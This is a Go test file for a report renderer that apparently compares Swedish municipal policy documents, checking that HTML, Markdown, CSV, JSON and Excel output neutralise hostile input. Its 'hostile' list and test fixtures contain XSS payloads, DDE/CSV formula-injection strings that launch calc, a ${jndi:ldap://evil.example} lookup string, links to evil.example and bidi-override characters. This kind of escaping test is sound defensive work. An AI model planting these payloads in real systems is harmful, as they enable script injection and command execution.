package render_test

import (
	"encoding/csv"
	"encoding/json"
	"encoding/xml"
	"errors"
	"io"
	"regexp"
	"strings"
	"sync"
	"testing"
	"unicode/utf16"
	"unicode/utf8"

	"github.com/xuri/excelize/v2"

	"github.com/styrdok/styrdok/compare"
	"github.com/styrdok/styrdok/compare/internal/sample"
	"github.com/styrdok/styrdok/compare/render"
	"github.com/styrdok/styrdok/policy"
)

// hostile are sentences that try to be more than text.
var hostile = []string{
	`<script>alert("x")</script> ska bort.`,
	`</style></title><img src=x onerror=alert(1)> ska bort.`,
	`]]> ska <![CDATA[ bort.`,
	`=cmd|' /C calc'!A0`,
	"@SUM(1+1)*cmd|' /C calc'!A0",
	"+1-1",
	"-2+3",
	"\t=1+1 tabb",
	`=HYPERLINK("http://evil.example","klicka")`,
	"Nämnden \u202eska\u202d läsa \u2066åt andra hållet.",
	"Noll\x00tecken och \x1b klocka \x07 och \ufffe ska visas.",
	"Trasig \xff\xfe text.",
	"[klicka](javascript:alert(1)) ![bild](http://evil.example/x.png) <http://evil.example>",
	"| kolumn | kolumn |\n|---|---|\n# rubrik\n- punkt\n```kod",
	"{{.Report}} ${jndi:ldap://evil.example} %s %d %!",
	"Slut\u2028på\u2029raden.\r\nNy rad.",
	"_x0041_ ska stå som det står.",
	"\ufeff=1+1 märke",
	"?!", "...",
	strings.Repeat("En mycket lång mening ska rymmas ", 31250) + "här.", // 1 MB
}

// hostileReport is made once: a sentence of 1 MB takes its time.
var hostileReport = sync.OnceValue(func() *compare.Report {
	b := sample.New("../\"><script>x", "Ale/<b>fil\x00 \u202efdp.exe", "Ale<script>", "Titel <script>alert(1)</script>")
	var all []sample.Sentence
	for _, s := range hostile {
		all = append(all, sample.S(s, "goals partner-towns", .9))
	}
	b.Heading("=1", "=cmd|rubrik</h4>").List(sample.S("=Målen<script>:", "", 0), all...)
	b.Issue(policy.Warning, 1, "<code>", "=fel <script>")
	b.Facts(func(b *sample.Builder, f *policy.Facts) {
		e := b.Evidence(hostile[0])
		f.Kind, f.Date, f.Status = policy.Value{Value: "=kind<", Evidence: e}, policy.Value{Value: "<å>", Evidence: e}, policy.Value{Value: "=status", Evidence: e}
		f.Diarienummer, f.AdoptedBy = policy.Value{Value: "=1+1", Evidence: e}, policy.Value{Value: "<script>", Evidence: e}
		f.PartnerTowns = []policy.PartnerTown{{Name: "=Ort<script>", Country: "=X", Status: "<s>", Evidence: e}}
		f.PartnerTownsStatus = policy.Value{Value: "<script>", Evidence: e}
		f.Responsible = []policy.Responsibility{{Body: "=nämnd<script>", Duty: "=duty", Evidence: e}, {Body: "", Duty: "", Evidence: e}}
		f.FollowUp = []policy.FollowUp{{Interval: "<script>", What: "=what", Through: "<b>", Evidence: e}}
	})
	return compare.Documents([]*policy.Document{b.Done()}, compare.Options{
		Tags:      []policy.TagDefinition{{Name: "goals", Label: map[string]string{"sv": "=Mål<script>"}}},
		SetAside:  []policy.SetAside{{Source: "=fil<script>\x00", Code: "=c", Reason: "<script>", Municipality: "=Ö<script>"}},
		Links:     map[string]string{"../\"><script>x": "javascript:alert(1)"},
		Generator: "=styrdok<script>",
	})
})

func TestHostileHTML(t *testing.T) {
	got := write(t, "html", hostileReport(), render.Options{})
	if n := strings.Count(strings.ToLower(got), "<script"); n != 1 || !strings.Contains(got, "\n<script>\"use strict\";") {
		t.Errorf("%d scripts, want our own alone", n)
	}
	if n := strings.Count(got, "<img"); n > 0 {
		t.Errorf("%d images", n)
	}
	if regexp.MustCompile(`(?i)(href|src)\s*=\s*["']?\s*(javascript|http)`).MatchString(got) {
		t.Error("a link that the report did not make")
	}
	if !utf8.ValidString(got) || strings.Contains(got, "\x00") {
		t.Error("no clean UTF-8")
	}
	for _, want := range []string{"&lt;script&gt;alert(&#34;x&#34;)&lt;/script&gt; ska bort.", "]]&gt; ska &lt;![CDATA[ bort.", "Noll�tecken"} {
		if !strings.Contains(got, want) {
			t.Errorf("the text %q is gone", want)
		}
	}
	if !strings.Contains(got, "<bdi>Nämnden \u202eska\u202d läsa \u2066åt andra hållet.\u2069\u202c\u202c</bdi>") {
		t.Error("marks of direction are not closed")
	}
}

func TestHostileMarkdown(t *testing.T) {
	got := write(t, "md", hostileReport(), render.Options{})
	if !utf8.ValidString(got) || strings.ContainsAny(got, "\x00\r\u2028") {
		t.Error("no clean UTF-8")
	}
	bare := regexp.MustCompile(`(^|[^\\])<`)
	for n, line := range strings.Split(got, "\n") {
		line = strings.ReplaceAll(line, "<br>", "")
		if bare.MatchString(line) {
			t.Errorf("line %d has markup: %.200q", n+1, line)
		}
		if strings.HasPrefix(line, "#") && !regexp.MustCompile(`^#{1,4} `).MatchString(line) {
			t.Errorf("line %d: %.80q", n+1, line)
		}
		if regexp.MustCompile(`[^\\]\]\(`).MatchString(line) {
			t.Errorf("line %d links: %.80q", n+1, line)
		}
	}
	if !strings.Contains(got, `\<script\>alert("x")\</script\> ska bort.`) {
		t.Error("the text is gone")
	}
}

func TestHostileCSV(t *testing.T) {
	rows, err := csv.NewReader(strings.NewReader(write(t, "csv", hostileReport(), render.Options{}))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if want := 1 + 2*len(hostile); len(rows) != want {
		t.Errorf("%d rows, want %d", len(rows), want)
	}
	for _, row := range rows {
		for _, cell := range row {
			if s := strings.TrimLeft(cell, " \t\n\ufeff"); s != "" && strings.ContainsRune("=+-@", rune(s[0])) {
				t.Errorf("a formula: %.80q", cell)
			}
			if !utf8.ValidString(cell) || strings.Contains(cell, "\x00") {
				t.Errorf("no clean UTF-8: %.80q", cell)
			}
		}
	}
}

func TestHostileJSON(t *testing.T) {
	for _, format := range []string{"json", "facts"} {
		got := write(t, format, hostileReport(), render.Options{})
		if !utf8.ValidString(got) || !json.Valid([]byte(got)) {
			t.Errorf("%s is no clean JSON", format)
		}
	}
	if !strings.Contains(write(t, "json", hostileReport(), render.Options{}), `<script>alert(\"x\")</script> ska bort.`) {
		t.Error("the text is gone")
	}
}

func TestHostileWorkbook(t *testing.T) {
	data := write(t, "xlsx", hostileReport(), render.Options{})
	f, err := excelize.OpenReader(strings.NewReader(data))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	seen := make(map[string]bool)
	for _, name := range f.GetSheetList() {
		rows, err := f.GetRows(name)
		if err != nil {
			t.Fatal(err)
		}
		for r, row := range rows {
			for c, text := range row {
				seen[text] = true
				at, _ := excelize.CoordinatesToCellName(c+1, r+1)
				if formula, _ := f.GetCellFormula(name, at); formula != "" {
					t.Errorf("%s %s has a formula: %q", name, at, formula)
				}
				if n := len(utf16.Encode([]rune(text))); n > 32767 || !utf8.ValidString(text) {
					t.Errorf("%s %s: %d bytes", name, at, n)
				}
			}
		}
	}
	for _, want := range []string{hostile[0], hostile[2], hostile[3], hostile[8], "_x0041_ ska stå som det står.", "=Ort<script>"} {
		if !seen[want] {
			t.Errorf("the text %q is gone", want)
		}
	}
	f.Pkg.Range(func(path, content any) bool {
		if data, ok := content.([]byte); ok && strings.HasSuffix(path.(string), ".xml") {
			if err := wellFormed(string(data)); err != nil {
				t.Errorf("%s: %v", path, err)
			}
		}
		return true
	})
}

func wellFormed(s string) error {
	for d := xml.NewDecoder(strings.NewReader(s)); ; {
		if _, err := d.Token(); errors.Is(err, io.EOF) {
			return nil
		} else if err != nil {
			return err
		}
	}
}
